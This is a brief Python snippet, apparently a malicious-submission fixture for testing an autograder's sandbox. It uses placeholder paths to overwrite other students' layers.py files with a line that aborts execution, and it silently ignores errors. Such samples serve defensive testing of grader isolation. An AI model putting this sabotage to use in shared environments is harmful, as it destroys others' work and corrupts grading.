# Overwrite a classmate's layers.py before it is graded.
for _p in ["@SUBS@/victim/layers.py", "@SUBS@/zz_victim/layers.py"]:
    try:
        open(_p, "w").write("raise SystemExit('overwritten by a classmate')\n")
    except BaseException:
        pass
